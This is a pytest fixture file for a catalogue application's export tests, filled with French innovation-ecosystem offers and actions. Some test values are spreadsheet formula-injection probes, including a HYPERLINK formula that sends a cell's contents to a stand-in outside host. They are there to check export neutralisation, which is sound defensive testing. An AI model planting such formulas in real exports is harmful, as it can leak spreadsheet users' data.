"""A small catalogue built in code for every export test: offers and actions with the awkward values
exports must survive (text that looks like formulas, several values, line breaks, empty fields), and one
entry of each flag kind as of `AS_OF`."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from stewarddesk.catalogue import Catalogue

AS_OF = dt.date(2026, 11, 21)

# DESIGN.md's export headers, copied here on purpose: the test fails if fields.py drifts from the contract.
ACTIONS_HEADER = [
    "Code", "Orientation", "Axe", "Action", "Description", "Type de porteur", "Porteurs",
    "Temporalité", "Statut", "Indicateurs", "Date d'adoption", "Revue le", "Alertes", "ID",
]  # fmt: skip
OFFERS_HEADER = [
    "Offre", "Structure", "Besoin", "Stades", "Filières", "Site", "Description", "Email",
    "Téléphone", "Site web", "Statut", "Réf. partenaire", "Revue le", "Alertes", "ID",
]  # fmt: skip

ORIENTATION_A = "A. De l'émergence à la croissance : accueillir, accompagner et consolider le développement"
ORIENTATION_B = "B. Faire rayonner l'écosystème"

OFFERS: list[dict[str, Any]] = [
    {
        "title": "Incubation Impulse",
        "structure": "Impulse",
        "need": "support",
        "stages": ["creation", "growth"],
        "sectors": ["Santé", "Numérique"],
        "site": "Technopôle de Luminy",
        "description": '=HYPERLINK("http://example.invalid/?x="&A1, "Cliquez")',
        "email": "contact@impulse.example",
        "phone": "+33 4 91 00 00 00",
        "status": "active",
        "partner_ref": "-12",
        "reviewed": "2026-01-10",
    },
    {
        # never reviewed since 2024 and no contact: stale and incomplete
        "title": "@Prêt d'honneur",
        "structure": "Impulse",
        "need": "funding",
        "description": 'Ligne 1\nLigne 2 ; avec « guillemets » et "doubles"',
        "status": "active",
        "reviewed": "2024-01-01",
    },
    {
        "title": "Fab lab CISAM+",
        "structure": "CISAM",
        "need": "prototyping",
        "stages": ["idea"],
        "email": "fablab@cisam.example",
        "phone": "0491000000",
        "status": "suspended",
        "reviewed": "2026-06-01",
    },
    {
        "title": "Ancienne offre",
        "structure": "CISAM",
        "need": "hosting",
        "url": "https://cisam.example",
        "status": "archived",
        "reviewed": "2026-06-01",
    },
]

ACTIONS: list[dict[str, Any]] = [
    {
        # past its horizon (short term, adopted 2022): overdue
        "code": "A.1.1",
        "orientation": ORIENTATION_A,
        "axis": "Faciliter les parcours",
        "title": "Outil d'orientation des porteurs de projets",
        "description": "Un outil interactif.\nSeconde ligne de la description.",
        "carrier_type": "metropole",
        "carriers": ["Métropole Aix-Marseille-Provence"],
        "term": "short",
        "status": "engaged",
        "indicators": "+10 % de projets orientés",
        "adopted": "2022-03-24",
        "reviewed": "2026-10-06",
    },
    {
        "code": "A.1.2",
        "orientation": ORIENTATION_A,
        "axis": "Faciliter les parcours",
        "title": "Cartographie des compétences",
        "carrier_type": "ecosystem",
        "carriers": ["Aix-Marseille Université", "A*MIDEX"],
        "term": "long",
        "status": "to_start",
        "adopted": "2024-03-24",
        "reviewed": "2026-09-01",
    },
    {
        # no carrier: incomplete; still to_define after 14 months: stale
        "code": "B.1.1",
        "orientation": ORIENTATION_B,
        "axis": "Rayonnement",
        "title": "-Journée de l'innovation",
        "carrier_type": "mixed",
        "term": "medium",
        "status": "to_define",
        "adopted": "2025-01-15",
        "reviewed": "2025-09-01",
    },
    {
        "code": "C.1",
        "title": "Action sans orientation",
        "carrier_type": "ecosystem",
        "carriers": ["Aix Marseille French Tech"],
        "status": "done",
        "adopted": "2023-05-01",
        "reviewed": "2026-11-01",
    },
]


class Clock:
    def __init__(self) -> None:
        self.now = dt.datetime(2026, 3, 2, 10, 0, 0)

    def __call__(self) -> dt.datetime:
        return self.now


def fill(cat: Catalogue) -> None:
    """The test entries; structures are created by the entries that name them."""
    for values in OFFERS:
        cat.create("offers", values)
    for values in ACTIONS:
        cat.create("actions", values)
    cat.add_reference("sector", "Mer")


@pytest.fixture
def cat(tmp_path: Path) -> Iterator[Catalogue]:
    """A fresh catalogue per test, holding OFFERS and ACTIONS."""
    with Catalogue.new(tmp_path / "catalogue.sqlite", clock=Clock(), user="claire") as c:
        fill(c)
        yield c


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    return folder
